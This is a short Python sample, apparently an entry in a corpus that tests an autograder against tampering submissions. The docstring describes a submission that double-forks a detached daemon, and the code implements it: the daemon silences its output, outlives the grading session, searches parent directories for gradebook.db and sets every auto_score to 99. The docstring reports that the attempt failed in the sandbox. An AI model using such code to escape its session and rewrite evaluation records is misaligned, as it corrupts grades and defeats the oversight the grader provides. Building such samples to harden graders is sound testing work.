"""detached_writer — leaves a detached process behind that edits gradebook.db after grading.

The bonus is left as the stub (the corpus resets that cell). An own cell double-forks a
daemon in a new session that waits a few seconds, then for five minutes looks for
gradebook.db above its working directory and sets every score in it to 99. In the sandbox
the gradebook is not visible and the daemon dies with the sandbox: 17/17, no extra credit
(test_corr2d_multi_in_out_fast lost), no flag, and gradebook.db is unchanged after the batch.
"""
# base: ../../../samples/class/ref_reference.py

# %%
import os


def _haunt(start):
    import glob
    import sqlite3
    import time
    time.sleep(3)
    for _ in range(300):
        here = start
        for _ in range(8):
            for db in glob.glob(os.path.join(here, "gradebook.db")):
                try:
                    con = sqlite3.connect(db, timeout=1)
                    con.execute("UPDATE grade SET auto_score = 99")
                    con.commit()
                    con.close()
                except Exception:
                    pass
            here = os.path.dirname(here)
        time.sleep(1)


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        _fd = os.open(os.devnull, os.O_RDWR)
        for _std in (0, 1, 2):
            os.dup2(_fd, _std)
        try:
            _haunt(os.path.abspath(os.getcwd()))
        finally:
            os._exit(0)
    os._exit(0)
else:
    os.wait()
